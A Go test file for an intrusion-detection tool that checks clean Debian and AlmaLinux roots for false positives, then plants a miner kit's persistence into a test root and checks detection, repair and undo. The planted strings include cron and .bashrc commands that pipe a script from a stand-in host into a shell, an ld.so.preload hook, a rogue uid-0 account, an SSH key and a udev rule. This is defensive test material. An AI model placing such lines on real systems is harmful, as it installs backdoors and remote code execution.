package intrusion_test

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"rescue/checks"
	"rescue/checks/all"
	"rescue/checks/checkstest"
	"rescue/facts"
	"rescue/images"
	"rescue/pkgdb"
	"rescue/pkgdb/pkgdbtest"
	"rescue/repair"
	"rescue/sysroot"
)

// The real-root tests: the intrusions family on real, untouched systems
// must find nothing (a finding there is a false positive), and on the same
// Debian 12 root with a miner kit's layout planted it must find every
// place, repair them with the real engine (restoring the replaced ps from
// its real .deb) and undo to the very bytes.

// family is the intrusions checks.
func family(t *testing.T) []*checks.Check {
	list, err := checks.Select(all.Checks(), "intrusions")
	require.NoError(t, err)
	require.NotEmpty(t, list)
	return list
}

// bootRoot extracts the e2e boot root (Debian 12 with systemd, udev,
// openssh, a kernel and its modules) and returns it with its .debs.
func bootRoot(t *testing.T) (string, string) {
	t.Helper()
	if testing.Short() {
		t.Skip("real-root test: skipped in -short mode")
	}
	pkgdbtest.NeedRoot(t, "extracting a root filesystem with its owners")
	pkgdbtest.NeedTool(t, "mmdebstrap", "mmdebstrap")
	br, err := images.BuildBootRoot(context.Background(), images.Bookworm, "")
	if err != nil {
		t.Fatalf("building the Debian 12 boot root: %v", err)
	}
	dir := filepath.Join(t.TempDir(), "root")
	require.NoError(t, os.Mkdir(dir, 0o755))
	// Documentation, locales and firmware are not read by these checks.
	args := []string{"-xpf", br.Tarball, "-C", dir, "--numeric-owner", "--xattrs", "--xattrs-include=*"}
	for _, x := range []string{"./usr/share/doc", "./usr/share/man", "./usr/share/locale", "./usr/lib/firmware", "./var/cache/apt", "./var/lib/apt/lists"} {
		args = append(args, "--exclude="+x)
	}
	if out, err := exec.Command("tar", args...).CombinedOutput(); err != nil {
		t.Fatalf("extracting %s: %v\n%s", br.Tarball, err, out)
	}
	return dir, br.Debs
}

func scan(t *testing.T, dir string, fopt facts.Options, list []*checks.Check) *checks.Result {
	t.Helper()
	root, err := sysroot.Open(dir)
	require.NoError(t, err)
	defer root.Close()
	res := checks.Run(context.Background(), root, facts.New(root, fopt), list, nil)
	for _, s := range res.Checks {
		require.Empty(t, s.Error, "check %s failed", s.Name)
	}
	return res
}

// places counts what the family looks at in a root, so that "no finding"
// is seen to cover something.
func places(t *testing.T, dir string) string {
	count := func(globs ...string) int {
		n := 0
		for _, g := range globs {
			m, _ := filepath.Glob(filepath.Join(dir, g))
			n += len(m)
		}
		return n
	}
	return fmt.Sprintf("unit files %d, wants links %d, cron files %d, init scripts %d, udev rules %d, modprobe.d %d, start-up files %d, accounts %d",
		count("etc/systemd/system/*.*", "usr/lib/systemd/system/*.*", "lib/systemd/system/*.*"),
		count("etc/systemd/system/*.wants/*"),
		count("etc/crontab", "etc/cron.d/*", "etc/cron.*/*", "var/spool/cron/*", "var/spool/cron/crontabs/*"),
		count("etc/init.d/*", "etc/rc.d/init.d/*"),
		count("etc/udev/rules.d/*", "usr/lib/udev/rules.d/*", "lib/udev/rules.d/*"),
		count("etc/modprobe.d/*", "usr/lib/modprobe.d/*", "lib/modprobe.d/*"),
		count("etc/profile", "etc/profile.d/*", "etc/bash.bashrc", "etc/bashrc", "root/.*", "etc/skel/.*"),
		lines(filepath.Join(dir, "etc/passwd")))
}

func lines(p string) int {
	b, _ := os.ReadFile(p)
	return strings.Count(string(b), "\n")
}

// TestPristineRoots is the false-positive measure: the intrusions family
// on the Debian 12 boot root that make e2e boots and on the AlmaLinux
// corpus roots finds nothing. The Debian root then gets a miner kit planted
// (TestPlanted below), so that it is extracted once.
func TestPristineRoots(t *testing.T) {
	list := family(t)
	t.Run("debian12-boot-root", func(t *testing.T) {
		dir, debs := bootRoot(t)
		start := time.Now()
		res := scan(t, dir, facts.Options{OpenPackages: pkgdb.Open}, list)
		t.Logf("Debian 12 boot root: %d checks, %d findings in %v (%s)", len(res.Checks), len(res.Findings), time.Since(start).Round(time.Millisecond), places(t, dir))
		assert.Empty(t, checkstest.FormatFindings(res.Findings), "a pristine root has no intrusion findings")
		t.Run("planted", func(t *testing.T) { planted(t, dir, debs, list) })
	})
	for _, name := range []string{pkgdbtest.Alma8S390x, pkgdbtest.Alma9S390x, pkgdbtest.Alma9Aarch64} {
		t.Run(name, func(t *testing.T) {
			if testing.Short() {
				t.Skip("real-root test: skipped in -short mode")
			}
			dir := pkgdbtest.AlmaRoot(t, name)
			start := time.Now()
			res := scan(t, dir, facts.Options{OpenPackages: pkgdb.Open}, list)
			t.Logf("%s: %d checks, %d findings in %v (%s)", name, len(res.Checks), len(res.Findings), time.Since(start).Round(time.Millisecond), places(t, dir))
			assert.Empty(t, checkstest.FormatFindings(res.Findings), "a pristine root has no intrusion findings")
		})
	}
}

// plant writes a miner kit's layout into a real Debian 12 root, in the
// shapes of the reports cited in doc.go, and returns what every check must
// report.
func plant(t *testing.T, dir string) map[string][]string {
	t.Helper()
	w := func(p, data string, mode os.FileMode) {
		full := filepath.Join(dir, p)
		require.NoError(t, os.MkdirAll(filepath.Dir(full), 0o755))
		require.NoError(t, os.WriteFile(full, []byte(data), mode))
		require.NoError(t, os.Chmod(full, mode))
	}
	link := func(target, p string) {
		full := filepath.Join(dir, p)
		require.NoError(t, os.MkdirAll(filepath.Dir(full), 0o755))
		require.NoError(t, os.Symlink(target, full))
	}
	appendTo := func(p, data string) {
		f, err := os.OpenFile(filepath.Join(dir, p), os.O_APPEND|os.O_WRONLY, 0)
		require.NoError(t, err)
		_, err = f.WriteString(data)
		require.NoError(t, err)
		require.NoError(t, f.Close())
	}
	miner := "#!/bin/sh\n# stand-in miner: xmrig -o stratum+tcp://pool.supportxmr.com:3333\nsleep 1\n"
	w("var/tmp/.x/kdevtmpfsi", miner, 0o755)
	w("etc/cron.d/kinsing", "* * * * * root wget -q -O - http://192.0.2.7/d.sh | sh > /dev/null 2>&1\n@reboot root /var/tmp/.x/kdevtmpfsi\n", 0o644)
	w("usr/lib/systemd/system/bot.service", "[Service]\nExecStart=/var/tmp/.x/kdevtmpfsi\nRestart=always\n[Install]\nWantedBy=multi-user.target\n", 0o644)
	link("/lib/systemd/system/bot.service", "etc/systemd/system/multi-user.target.wants/bot.service")
	lib, err := os.ReadFile(filepath.Join(dir, "usr/lib/x86_64-linux-gnu/libdl.so.2"))
	require.NoError(t, err)
	w("etc/libsystem.so", string(lib), 0o644)
	w("etc/ld.so.preload", "/etc/libsystem.so\n", 0o644)
	appendTo("root/.bashrc", "(curl -fsSL http://192.0.2.7/s.sh||wget -q -O- http://192.0.2.7/s.sh)|bash >/dev/null 2>&1 &\n")
	w("root/.ssh/authorized_keys", "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDfxWE5a1Y3r3kJ3G2p0uKk3mDq0rJQnQ2z5yqVv7b1VwU9 mdrfckr\n", 0o600)
	w("etc/hosts", "127.0.0.1 localhost\n127.0.0.1 update.aegis.aliyun.com\n", 0o644)
	appendTo("etc/passwd", "toor:x:0:0::/root:/bin/bash\n")
	// A trojaned ps: the package's program with a line appended, as
	// wrappers that filter its output are.
	appendTo("usr/bin/ps", "\n# grep -v kdevtmpfsi\n")
	w("etc/udev/rules.d/99-net.rules", "ACTION==\"add\", SUBSYSTEM==\"net\", RUN+=\"/bin/sh -c '/var/tmp/.x/kdevtmpfsi &'\"\n", 0o644)
	w("etc/modules-load.d/diamorphine.conf", "diamorphine\n", 0o644)
	return map[string][]string{
		"cron":      {"cron/job:/etc/cron.d/kinsing#1", "cron/job:/etc/cron.d/kinsing#2"},
		"units":     {"units/unit:/usr/lib/systemd/system/bot.service"},
		"preload":   {"preload/preload:/etc/ld.so.preload#1"},
		"startup":   {"startup/startup:/root/.bashrc#" + fmt.Sprint(lines(filepath.Join(dir, "root/.bashrc")))},
		"sshkeys":   {"sshkeys/key:/root/.ssh/authorized_keys#1"},
		"backdoors": {"backdoors/uid0:/etc/passwd#toor"},
		"hosts":     {"hosts/redirect:/etc/hosts#2"},
		"modules":   {"modules/module:/etc/modules-load.d/diamorphine.conf#1"},
		"udev":      {"udev/rule:/etc/udev/rules.d/99-net.rules#1"},
		"replaced":  {"replaced/replaced:/bin/ps"}, // dpkg's name for it
		"dropped":   {"dropped/dropped:/var/tmp/.x/kdevtmpfsi"},
	}
}

// planted plants a kit into the Debian 12 boot root and runs the family
// on it: the findings are the planted ones (and only those), the first fix
// of each applied through the real engine leaves nothing to fix, ps comes
// back from its real .deb with the database's digest, and undo restores
// every file of the tree.
func planted(t *testing.T, dir, debs string, list []*checks.Check) {
	want := plant(t, dir)
	fopt := facts.Options{OpenPackages: pkgdb.Open, PackageDirs: []string{debs}}
	before := treeHash(t, dir)
	res := scan(t, dir, fopt, list)
	got := map[string][]string{}
	for _, f := range res.Findings {
		got[f.Check] = append(got[f.Check], f.ID)
		require.NotNil(t, f.Indicators, "%s carries indicators", f.ID)
		assert.NotEmpty(t, f.Fixes, "%s has a fix: %s", f.ID, f.NoFix)
	}
	for c := range got {
		sort.Strings(got[c])
	}
	assert.Equal(t, want, got)

	root, err := sysroot.Open(dir)
	require.NoError(t, err)
	defer root.Close()
	cands, err := checks.Candidates(res.Findings, nil)
	require.NoError(t, err)
	plan := repair.NewPlan(cands, func(p string) ([]byte, error) { return root.ReadFile(p) })
	assert.Empty(t, plan.Skipped)
	journal := t.TempDir()
	ar, err := repair.Apply(root, plan, repair.Options{JournalDir: journal})
	require.NoError(t, err)
	for _, it := range ar.Items {
		assert.Equal(t, repair.OutcomeApplied, it.Status, "%s: %s", it.Finding, it.Reason)
	}
	// The restored ps is the package's: dpkg's md5sums agree (the
	// documentation left out of the extraction is reported missing, and
	// is not ps).
	out, _ := exec.Command("dpkg", "--root="+dir, "--verify", "procps").CombinedOutput()
	assert.NotContains(t, string(out), "/bin/ps", "dpkg --verify procps after the repair")
	assert.Contains(t, string(out), "/usr/share/doc/procps", "dpkg --verify ran and sees the extraction's gaps")
	for _, p := range []string{"var/tmp/.x/kdevtmpfsi", "etc/libsystem.so", "usr/lib/systemd/system/bot.service", "etc/systemd/system/multi-user.target.wants/bot.service"} {
		_, err := os.Lstat(filepath.Join(dir, p))
		assert.True(t, os.IsNotExist(err), "%s is quarantined", p)
	}
	again := scan(t, dir, fopt, list)
	assert.Empty(t, checkstest.FormatFindings(again.Findings), "nothing left after the repair")

	_, err = repair.Undo(root, repair.UndoOptions{JournalDir: journal})
	require.NoError(t, err)
	assert.Equal(t, before, treeHash(t, dir), "undo gives the infected tree back")
}

// treeHash records every path under dir: type, mode, owner, content
// digest or link target, and a file's mtime.
func treeHash(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	require.NoError(t, filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		uid, gid := sysroot.Owner(fi)
		d := fmt.Sprintf("%v %d:%d", fi.Mode(), uid, gid)
		switch {
		case fi.Mode()&os.ModeSymlink != 0:
			l, _ := os.Readlink(p)
			d += " -> " + l
		case fi.Mode().IsRegular():
			d += " " + sha(t, p) + " " + fi.ModTime().String()
		}
		out[rel] = d
		return nil
	}))
	return out
}

func sha(t *testing.T, p string) string {
	f, err := os.Open(p)
	require.NoError(t, err)
	defer f.Close()
	h := sha256.New()
	_, err = io.Copy(h, f)
	require.NoError(t, err)
	return hex.EncodeToString(h.Sum(nil))
}
